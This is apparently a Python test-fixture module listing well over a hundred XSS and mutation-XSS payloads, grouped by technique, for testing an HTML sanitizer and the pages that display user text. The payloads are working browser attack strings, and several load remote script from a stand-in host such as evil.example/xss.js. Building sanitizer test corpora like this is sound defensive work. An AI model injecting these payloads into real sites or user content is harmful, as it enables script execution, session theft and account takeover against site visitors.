"""XSS and mutation-XSS vectors, after the OWASP XSS Filter Evasion Cheat Sheet and published mXSS
research (namespace confusion, parser differentials, serializer round trips).

``VECTORS`` is the full corpus (run through the sanitizer); ``DISPLAY_SUBSET`` is a representative
slice (one or two per family) run through every page that shows user text.
"""

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    '<SCRIPT SRC="http://evil.example/xss.js"></SCRIPT>',
    "<script/xss src=//evil.example/x.js></script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<script>alert(1)//",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "';alert(String.fromCharCode(88,83,83))//';alert(1)//\"; alert(1)//</SCRIPT>",
]

EVENT_HANDLERS = [
    '<img src=x onerror="alert(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert`1`>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    '<a href="https://example.org" onclick="alert(1)">ok</a>',
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "<b onmouseover=alert(1)>bold</b>",
    "<strong/onclick=alert(1)>x</strong>",
]

JAVASCRIPT_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115'
    '&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\u202ejavascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=`javascript:alert(1)`>backtick</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href="javascript://%0Aalert(1)">comment</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBSCRIPT:msgbox(1)">vb</a>',
    '<a href="livescript:alert(1)">ls</a>',
    '<a href="https:javascript:alert(1)">nested</a>',
    '<a href="javas&#99;ript:alert(1)">half entity</a>',
    '<a href="&#14;javascript:alert(1)">lead control</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a href="#" formaction="javascript:alert(1)">fa</a>',
    '<a xlink:href="javascript:alert(1)">xl</a>',
]

DATA_URIS = [
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<a href="&#100;ata:text/html,<script>alert(1)</script>">entity data</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">upper data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]

NAMESPACE_CONFUSION = [
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"></svg>',
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">m</math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
    '<a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
]

RAW_TEXT_BREAKOUTS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<style></style><img src=x onerror=alert(1)>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">ie</div>',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
]

COMMENTS_AND_CDATA = [
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>",
    '<!--[if gte IE 4]><SCRIPT>alert("XSS");</SCRIPT><![endif]-->',
]

STRUCTURE = [
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><form><input name=x></form></form>",
    '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="x" formaction="javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    "<table><td><img src=x onerror=alert(1)></table>",
    '<a href="https://example.org"><a href="javascript:alert(1)">nested</a></a>',
    "<ul><li><p><b><i><img src=x onerror=alert(1)>",
    '<img src="x" alt="unclosed',
    '<a href="https://example.org" title="x" <img src=x onerror=alert(1)>',
    "<img src=x onerror=alert(1)",
    '<div><a title="</div><img src=x onerror=alert(1)>">x</a></div>',
    '<p title="&quot;><img src=x onerror=alert(1)>">q</p>',
    "<a href=\"https://example.org/\" title='<img src=x onerror=alert(1)>'>t</a>",
    "<keygen autofocus onfocus=alert(1)>",
    '<applet code="javascript:alert(1)"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
]

ENCODING_TRICKS = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x o\x00nerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\u00a0=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
    "https://evil.example/?q=<script>alert(1)</script>",
]

VECTORS: list[str] = (
    SCRIPT
    + EVENT_HANDLERS
    + JAVASCRIPT_URLS
    + DATA_URIS
    + NAMESPACE_CONFUSION
    + RAW_TEXT_BREAKOUTS
    + COMMENTS_AND_CDATA
    + STRUCTURE
    + ENCODING_TRICKS
)

# One or two of each family for the pages (each is saved and fetched on every display).
DISPLAY_SUBSET: list[str] = [
    SCRIPT[0],
    SCRIPT[9],
    SCRIPT[10],
    EVENT_HANDLERS[0],
    EVENT_HANDLERS[7],
    JAVASCRIPT_URLS[3],
    JAVASCRIPT_URLS[15],
    JAVASCRIPT_URLS[12],
    DATA_URIS[0],
    NAMESPACE_CONFUSION[2],
    NAMESPACE_CONFUSION[7],
    NAMESPACE_CONFUSION[10],
    RAW_TEXT_BREAKOUTS[0],
    RAW_TEXT_BREAKOUTS[5],
    COMMENTS_AND_CDATA[1],
    STRUCTURE[0],
    STRUCTURE[2],
    STRUCTURE[21],
    STRUCTURE[24],
    ENCODING_TRICKS[3],
]
